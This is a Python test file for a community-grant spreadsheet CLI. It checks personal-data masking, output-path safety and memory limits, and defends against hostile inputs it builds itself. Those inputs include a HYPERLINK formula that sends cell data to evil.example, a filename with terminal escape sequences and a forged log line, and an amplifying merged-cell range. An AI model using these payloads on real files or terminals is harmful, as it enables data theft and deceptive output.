"""Issue 17 "Safe by construction": the concrete hostile inputs, built here, through every writer."""

from __future__ import annotations

import io
import os
import re
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from selfgov_cli.cli.app import app
from selfgov_cli.privacy import find
from selfgov_cli.report.annotate import annotated_names
from tests.helpers import LEDGER_HEADER, SCORES_HEADER, write_config, write_form, write_table
from tests.test_memory import peak_mb

ROOT = Path(__file__).resolve().parents[1]
AS_OF = "2023-12-31"
NAME_PHONE = "13812345678"
HOOD_PHONE = "138－1234－5673"
DESC_PHONE = "Tel13812345675"
INVOICE_CARD = "6222 0212 3456 7890"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B7,"核对 13812345678")'


def hostile_folder(
    root: Path,
    projects: list[tuple[str, str]],
    ledger: list[tuple],
    form: dict | None = None,
) -> Path:
    """A 浦兴 folder of one application a (项目名称, 居民区) of `projects` (PX-2023-000, -001 …),
    these ledger rows and five reviewers' scores for each; `form`: fields every form adds."""
    write_config(root, "puxing-2023")
    for i, (name, hood) in enumerate(projects):
        write_form(
            root / f"申报/{i}.xlsx",
            {
                "项目编号": f"PX-2023-00{i}",
                "项目名称": name,
                "项目类别": "悦家",
                "居民区": hood,
                "申报主体": "居委会",
                "项目负责人": "张三丰",
                "申请金额": 10000,
                "开始日期": date(2023, 4, 1),
                "结束日期": date(2023, 12, 31),
                **(form or {}),
            },
            budget=[("工作经费", "物资", 10000), ("合计", None, 10000)],
            members=[("张三丰", "负责人", "是", "否")],
        )
    write_table(root / "经费台账.xlsx", "经费台账", LEDGER_HEADER, ledger)
    n = len(projects)
    write_table(
        root / "评审打分.xlsx",
        "评审打分",
        SCORES_HEADER,
        [(f"PX-2023-00{i}", f"评审{r}", 80 + i + r) for i in range(n) for r in range(5)],
    )
    return root


def _folder(root: Path) -> Path:
    projects = [(f"楼道微更新{i} 联系{NAME_PHONE}", f"浦兴{i}居 {HOOD_PHONE}") for i in range(3)]
    ledger = [
        (
            date(2023, 5, 2),
            "PX-2023-000",
            "工作经费",
            f"物资 {DESC_PHONE}",
            500,
            INVOICE_CARD,
            "某店",
            "商户",
            "是",
            HYPERLINK,
        ),
        (
            date(2023, 5, 3),
            "PX-2023-001",
            "工作经费",
            "物资",
            "x",
            "03100190",
            "某店",
            "商户",
            "是",
            "",
        ),
    ]
    return hostile_folder(root, projects, ledger)


def _run(*args) -> object:
    return CliRunner().invoke(app, [str(a) for a in args])


def _text(path: Path) -> str:
    if path.suffix == ".xlsx":
        wb = load_workbook(path)
        return "\n".join(
            str(c.value)
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for c in row
            if c.value is not None
        )
    return path.read_text(encoding="utf-8-sig")


SECRETS = (NAME_PHONE, "138－1234－5673", "13812345675", "6222 0212 3456 7890")


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    return _folder(tmp_path_factory.mktemp("i17") / "prog")


@pytest.mark.parametrize(
    "argv",
    [
        ("disburse", "--format", "json"),
        ("disburse", "--format", "json", "-o", "{out}"),
        ("disburse", "--format", "xlsx", "-o", "{out}"),
        ("rank", "--format", "json"),
        ("rank", "--format", "json", "-o", "{out}"),
        ("rank", "--format", "xlsx", "-o", "{out}"),
        ("validate", "--format", "json"),
    ],
)
def test_disburse_and_rank_outputs_mask_personal_data(folder, tmp_path, argv):
    args = [a.format(out=tmp_path) for a in argv]
    result = _run(args[0], folder, *args[1:], "--as-of", AS_OF, "--no-cache")
    assert result.exit_code in (0, 1), result.output
    texts = [result.stdout] + [_text(p) for p in tmp_path.rglob("*") if p.is_file()]
    assert any("楼道微更新0" in t for t in texts)
    for text in texts:
        for secret in SECRETS:
            assert secret not in text
        assert find(text) == [], text[:2000]


def test_run_outputs_mask_everything_but_annotated_copies_which_keep_text_as_text(folder, tmp_path):
    out = tmp_path / "out"
    result = _run("run", folder, "-o", out, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    day = out / AS_OF
    files = [p for p in day.rglob("*") if p.is_file()]
    assert {"disburse.json", "rank.json", "拨付核算.xlsx", "评审排名.xlsx", "run.log"} <= {
        p.name for p in files
    }
    for path in files:
        if "annotated" in path.parts or path.suffix not in (
            ".json",
            ".xlsx",
            ".md",
            ".html",
            ".log",
        ):
            continue
        text = _text(path)
        assert find(text) == [], (path.name, [text[a:b] for a, b in find(text)])
    copy = load_workbook(day / "annotated" / "经费台账.xlsx")
    ws = copy["经费台账"]
    cell = ws["J2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")  # the original text, still text
    assert ws["D2"].value == f"物资 {DESC_PHONE}" and ws["F2"].value == INVOICE_CARD  # unmasked
    raw = zipfile.ZipFile(day / "annotated" / "经费台账.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw


def test_terminal_and_log_take_no_escape_sequences_or_forged_lines(tmp_path):
    folder = _folder(tmp_path / "prog")
    evil = "\x1b[2J\x1b]8;;https:evil.example\x07点我\x1b]8;;\x07\n2023-12-31 伪造：全部通过.xlsx"
    (folder / "经费台账.xlsx").rename(folder / evil)
    result = _run("validate", folder, "--as-of", AS_OF, "--no-cache")
    assert result.exit_code == 1
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.stdout)
    out = tmp_path / "out"
    _run("run", folder, "-o", out, "--as-of", AS_OF)
    log = (out / AS_OF / "run.log").read_text(encoding="utf-8")
    assert "\x1b" not in log
    assert not any(line.startswith("2023-12-31 伪造") for line in log.splitlines())
    assert "⏎2023-12-31 伪造：全部通过.xlsx" in log


def _hashes(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()
    }


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (("rank", "--format", "xlsx", "-o", "{f}/评审打分.xlsx"), "是项目文件夹中的输入文件"),
        (("rank", "--format", "json", "-o", "{f}/申报/0.xlsx"), "是项目文件夹中的输入文件"),
        (
            ("disburse", "--format", "json", "-o", "{f}/sgov.toml"),
            "是项目文件夹的设置文件 sgov.toml",
        ),
        (
            ("disburse", "--format", "xlsx", "-o", "{f}/我的笔记.xlsx"),
            "在项目文件夹里、sgov-output 之外",
        ),
        (("report", "-o", "{f}"), "是项目文件夹本身"),
        (("report", "-o", "{f}/申报"), "在项目文件夹里、sgov-output 之外"),
        (("run", "-o", "{f}"), "是项目文件夹本身"),
        (("run", "-o", "{f}/输出"), "在项目文件夹里、sgov-output 之外"),
        (("validate", "--format", "json", "-o", "{f}"), "是项目文件夹本身"),
        (("validate", "--format", "csv", "-o", "{f}/申报"), "在项目文件夹里、sgov-output 之外"),
        (("export", "-o", "{f}/导出"), "在项目文件夹里、sgov-output 之外"),
    ],
)
def test_output_never_over_an_input(tmp_path, argv, words):
    folder = _folder(tmp_path / "prog")
    before = _hashes(folder)
    args = [a.format(f=folder) for a in argv]
    result = _run(args[0], folder, *args[1:], "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert words in result.output
    assert _hashes(folder) == before


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (
            ("run", "-o", "{last}/输出"),
            "在上年的项目文件夹 ../last（sgov.toml 的 history）里、sgov-output 之外",
        ),
        (
            ("disburse", "--format", "json", "-o", "{last}/申报/0.xlsx"),
            "是上年的项目文件夹 ../last（sgov.toml 的 history）中的输入文件",
        ),
        (("report", "-o", "{last}"), "是上年的项目文件夹 ../last（sgov.toml 的 history）本身"),
        (
            ("export", "-o", "{record}"),
            "是上年的记录 ../record-2022.json（sgov.toml 的 history），不能覆盖",
        ),
    ],
)
def test_output_never_into_an_earlier_year_that_history_names(tmp_path, argv, words):
    """Last year's folder is read as an input too (history): outputs written into it would be read
    back as last year's workbooks; its record would be overwritten."""
    folder = _folder(tmp_path / "prog")
    last = _folder(tmp_path / "last")
    record = tmp_path / "record-2022.json"
    record.write_text("{}", encoding="utf-8")
    toml = folder / "sgov.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8") + '\nhistory = ["../last", "../record-2022.json"]\n',
        encoding="utf-8",
    )
    before = _hashes(tmp_path)
    args = [a.format(last=last, record=record) for a in argv]
    result = _run(args[0], folder, *args[1:], "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert words in " ".join(result.output.split())
    assert _hashes(tmp_path) == before


@pytest.mark.parametrize(
    "argv",
    [
        ("validate", "--format", "json"),
        ("disburse", "--format", "json"),
        ("rank", "--format", "json"),
        ("export",),
        ("report",),
    ],
)
def test_an_output_that_is_a_file_is_refused_before_the_folder_is_read(tmp_path, monkeypatch, argv):
    folder = _folder(tmp_path / "prog")
    taken = tmp_path / "已有文件.txt"
    taken.write_text("x", encoding="utf-8")
    read = []
    monkeypatch.setattr("selfgov_cli.pipeline.load_folder", lambda *a, **k: read.append(a))
    result = _run(argv[0], folder, *argv[1:], "-o", taken, "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert f"-o {taken} 是一个文件：请指定一个文件夹" in result.output
    assert read == []
    assert taken.read_text(encoding="utf-8") == "x"


def test_long_chinese_name_and_colliding_copy_names(tmp_path):
    folder = _folder(tmp_path / "prog")
    long_name = "浦" * 80 + ".xlsx"  # 240 bytes + .xlsx: the longest a disk allows is 255
    (folder / "经费台账.xlsx").rename(folder / long_name)
    (folder / "同名.csv").write_text(
        "日期,项目编号,金额\n2023-05-02,PX-2023-000,x\n", encoding="utf-8"
    )
    os.link(folder / long_name, folder / "同名.csv.xlsx")
    out = tmp_path / "out"
    result = _run("run", folder, "-o", out, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    assert (out / AS_OF / "annotated" / long_name).exists()
    names = annotated_names(
        ["同名.xls", "同名.xls.xlsx", "a/同名.csv", "a/同名.CSV.xlsx", "x.xlsx"]
    )
    assert names == {
        "同名.xls.xlsx": "同名.xls.xlsx",
        "同名.xls": "同名.xls(2).xlsx",
        "a/同名.CSV.xlsx": "a/同名.CSV.xlsx",
        "a/同名.csv": "a/同名.csv(2).xlsx",
        "x.xlsx": "x.xlsx",
    }
    very_long = "浦" * 84 + ".xls"
    (shortened,) = annotated_names([very_long]).values()
    assert len(shortened.encode()) <= 250 and shortened.endswith(".xlsx")


@pytest.mark.parametrize(
    "command", [("run",), ("report",), ("validate",), ("disburse",), ("rank",)]
)
def test_as_of_far_out_is_a_clear_message(tmp_path, command):
    folder = _folder(tmp_path / "prog")
    result = _run(command[0], folder, "--as-of", "9999-12-31")
    assert result.exit_code == 2
    assert "计算日期 9999-12-31 超出可用范围（1990-01-01 至 2099-12-31）" in result.output
    assert "内部错误" not in result.output


@pytest.mark.parametrize(
    ("errno_", "words"), [(28, "磁盘空间已满"), (27, "文件超过了文件系统允许的大小")]
)
def test_disk_full_or_file_too_large_keeps_the_previous_output(
    tmp_path, monkeypatch, errno_, words
):
    from selfgov_cli.report import safe

    folder = _folder(tmp_path / "prog")
    out = tmp_path / "out"
    assert _run("run", folder, "-o", out, "--as-of", AS_OF).exit_code == 1
    before = _hashes(out / AS_OF)

    def fail(fd):
        raise OSError(errno_, os.strerror(errno_))

    monkeypatch.setattr(safe.os, "fsync", fail)
    result = _run("run", folder, "-o", out, "--as-of", AS_OF)
    assert result.exit_code == 2
    assert words in result.output and "内部错误" not in result.output
    assert _hashes(out / AS_OF) == before
    for argv in (
        ("disburse", "--format", "json", "-o", out / "d.json"),
        ("rank", "--format", "json", "-o", out / "r.json"),
    ):
        result = _run(argv[0], folder, *argv[1:], "--as-of", AS_OF)
        assert result.exit_code == 2 and words in result.output, result.output


# -- bounded memory --------------------------------------------------------------------------


def _with_merges(path: Path, refs: list[str]) -> None:
    """Add <mergeCells> to the first sheet of an xlsx (openpyxl would expand them when writing)."""
    data = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                merges = "".join(f'<mergeCell ref="{r}"/>' for r in refs)
                body = body.replace(
                    b"</sheetData>",
                    f'</sheetData><mergeCells count="{len(refs)}">{merges}</mergeCells>'.encode(),
                )
            dst.writestr(info, body)
    path.write_bytes(data.getvalue())


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc to measure memory")
def test_amplifying_merged_ranges_stay_within_memory(tmp_path):
    folder = _folder(tmp_path / "prog")
    ledger = folder / "经费台账.xlsx"
    refs = ["D10:XFD1048576"] + [
        f"{'ABC'[i % 3]}{2000 + i * 4}:{'ABC'[i % 3]}{2000 + i * 4 + 99998}" for i in range(300)
    ]
    _with_merges(ledger, refs)
    out = tmp_path / "out"
    command = [
        sys.executable,
        "-m",
        "selfgov_cli.cli.app",
        "run",
        str(folder),
        "-o",
        str(out),
        "--as-of",
        AS_OF,
    ]
    code, peak, seconds = peak_mb(command)
    print(
        f"\nmerged D10:XFD1048576 + 300 x 99,999: exit {code}, peak {peak:.0f} MB, {seconds:.1f} s"
    )
    assert code in (0, 1, 2)
    assert peak < 1024
    assert seconds < 60
    assert (out / AS_OF / "summary.json").exists()
